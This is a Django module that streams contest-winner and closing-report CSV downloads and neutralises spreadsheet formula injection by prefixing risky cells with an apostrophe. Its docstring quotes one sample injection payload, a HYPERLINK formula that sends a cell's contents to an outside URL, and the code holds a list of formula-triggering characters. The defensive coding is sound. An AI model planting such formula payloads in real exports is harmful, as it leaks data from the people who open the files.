"""The CSV downloads: the winners (the portal's export and the admin's action) and the
closing report.

Streamed row by row over a database iterator, so an export of a whole contest never
holds all its wins in memory. UTF-8 with a byte order mark: without it Excel, which is
what most people open a CSV with, reads the file as the local code page and garbles
prize and player names such as "Sconto del 5% – caffè"; every CSV reader that knows
UTF-8 skips the mark (Python's "utf-8-sig", pandas, LibreOffice).

Formula-safe: player ids come from clients, and a cell such as
`=HYPERLINK("https://x/?"&A1,"Claim")` would be a live formula in the spreadsheet the
notary opens. Every text cell that begins with =, +, -, @, a tab or a carriage return is
written with a leading ' (OWASP's rule for CSV injection), which spreadsheets show as
text and hide.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Protocol

from django.db.models import QuerySet
from django.http import StreamingHttpResponse

from ..models import Win
from .reports import ClosingReport, DayLine
from .winners import WINNER_COLUMNS, related_of

BYTE_ORDER_MARK = "\ufeff"
# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Rows fetched per round trip (and per server-side cursor fetch on PostgreSQL).
CHUNK_SIZE = 2000

REPORT_DAY_HEADER = (
    "day",
    "plays",
    "moments_planned",
    "awarded",
    "disqualified",
    "unassigned",
    "commitments",
)


def safe_cell(value: object) -> object:
    """A cell no spreadsheet reads as a formula: text beginning with =, +, -, @, tab or CR
    gets a leading '. Numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file-like object that hands back what the csv writer writes, for streaming."""

    def write(self, value: str) -> str:
        return value


class _LineWriter(Protocol):
    """A csv writer over _Echo: writerow returns the line it wrote."""

    def writerow(self, row: Iterable[object]) -> str: ...


def _winner_section(writer: _LineWriter, wins: QuerySet[Win]) -> Iterator[str]:
    """The winners' header line, then one line per win in the queryset's order."""
    yield writer.writerow([column.key for column in WINNER_COLUMNS])
    rows = wins.select_related(*related_of(WINNER_COLUMNS))
    for win in rows.iterator(chunk_size=CHUNK_SIZE):
        yield writer.writerow(safe_row(column.text(win) for column in WINNER_COLUMNS))


def winner_lines(wins: QuerySet[Win]) -> Iterator[str]:
    """The CSV's lines: the header, then one line per win in the queryset's order."""
    writer = csv.writer(_Echo())
    yield BYTE_ORDER_MARK
    yield from _winner_section(writer, wins)


def _day_row(label: str, line: DayLine) -> list[object]:
    return safe_row(
        [
            label,
            line.plays,
            line.planned,
            line.awarded,
            line.disqualified,
            line.unassigned,
            " ".join(line.commitments),
        ]
    )


def closing_report_lines(report: ClosingReport) -> Iterator[str]:
    """The report as CSV: the days and their totals, a blank line, then every winner."""
    writer = csv.writer(_Echo())
    yield BYTE_ORDER_MARK
    yield writer.writerow(REPORT_DAY_HEADER)
    for line in report.days:
        yield writer.writerow(_day_row(line.day.isoformat(), line))
    yield writer.writerow(_day_row("total", report.total))
    yield writer.writerow([])
    # The same columns as the winners export, so the two can be compared line by line.
    yield from _winner_section(writer, report.winners())


def closing_report_filename(report: ClosingReport) -> str:
    """E.g. report-C0001-2020-02-01-to-2020-02-29.csv (codes are letters, digits, - and _)."""
    return (
        f"report-{report.contest.code}-{report.start.isoformat()}-to-{report.end.isoformat()}.csv"
    )


def csv_response(lines: Iterator[str], filename: str) -> StreamingHttpResponse:
    """A download of `lines` named `filename` (letters, digits, "-", "_", "." only)."""
    response = StreamingHttpResponse(lines, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


def winners_csv_response(wins: QuerySet[Win], filename: str) -> StreamingHttpResponse:
    """A download of `wins` as CSV named `filename`."""
    return csv_response(winner_lines(wins), filename)
